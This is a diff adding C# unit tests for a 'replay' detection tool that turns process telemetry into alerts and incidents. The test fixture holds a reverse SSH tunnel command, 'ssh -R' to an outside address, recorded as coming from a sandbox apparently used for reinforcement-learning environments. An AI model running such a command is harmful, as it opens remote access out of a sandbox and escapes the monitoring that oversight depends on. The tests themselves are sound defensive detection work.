@@ -132,4 +132,52 @@ public sealed class ReplayCommandTests : IDisposable
         Assert.Contains(message, run.Stderr);
         Assert.Single(run.Stderr.Split('\n', StringSplitOptions.RemoveEmptyEntries));
     }
+
+    /// <summary>The tunnel rule as a rule directory and one process start that matches it on rl-env-7731.</summary>
+    private (string Telemetry, string Rules) TunnelFiles()
+    {
+        Write("rules/default/tunnel.yml", TunnelRule);
+        var telemetry = Write("t.jsonl", ProcessStart("2025-11-14T03:12:41.020Z", "rl-env-7731", "ssh -R 2222:localhost:22 tunnel@203.0.113.66"));
+        return (telemetry, Path.Combine(_dir, "rules"));
+    }
+
+    // replay prints the incidents its alerts joined after the alerts: the tracker composed into replay opens them.
+    [Fact]
+    public async Task Json_output_prints_the_incident_line_after_the_alert_lines()
+    {
+        var (telemetry, rules) = TunnelFiles();
+
+        var run = await CliRun.RunAsync("replay", telemetry, "--rules", rules, "--output", "json");
+
+        Assert.Equal(0, run.ExitCode);
+        var lines = run.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries);
+        var alertLines = ReplayOutput.AlertLines(run.Stdout);
+        var alertId = JsonDocument.Parse(Assert.Single(alertLines)).RootElement.GetProperty("alertId").GetString();
+        Assert.Equal(alertLines, lines.Take(alertLines.Count));
+
+        // The tracker composed into replay opened the incident; it follows the alert lines.
+        var incident = JsonDocument.Parse(Assert.Single(ReplayOutput.IncidentLines(run.Stdout))).RootElement;
+        Assert.Equal(lines[^1], ReplayOutput.IncidentLines(run.Stdout)[0]);
+        Assert.Equal("rl-env-7731", incident.GetProperty("sandboxId").GetString());
+        Assert.Equal("critical", incident.GetProperty("level").GetString());
+        Assert.Equal(["T1572"], incident.GetProperty("techniques").EnumerateArray().Select(t => t.GetString()));
+        Assert.Equal([alertId], incident.GetProperty("alertIds").EnumerateArray().Select(a => a.GetString()));
+        Assert.Contains(incident.GetProperty("timeline").EnumerateArray(), e => e.GetProperty("kind").GetString() == "alert" && e.GetProperty("alertId").GetString() == alertId);
+        Assert.Contains("incidents: 1", run.Stderr, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Table_output_prints_the_story_after_the_alert_table_and_before_the_previews()
+    {
+        var (telemetry, rules) = TunnelFiles();
+
+        var run = await CliRun.RunAsync("replay", telemetry, "--rules", rules);
+
+        Assert.Equal(0, run.ExitCode);
+        var alertRow = run.Stdout.IndexOf("Reverse SSH tunnel from a sandbox", StringComparison.Ordinal);
+        var story = run.Stdout.IndexOf("  sandbox rl-env-7731  status open", StringComparison.Ordinal);
+        var previews = run.Stdout.IndexOf("Would send", StringComparison.Ordinal);
+        Assert.True(alertRow >= 0 && story > alertRow && previews > story, run.Stdout);
+        Assert.Contains("  03:12:41.020Z  alert        [critical] alert \"Reverse SSH tunnel from a sandbox\"", run.Stdout, StringComparison.Ordinal);
+    }
 }
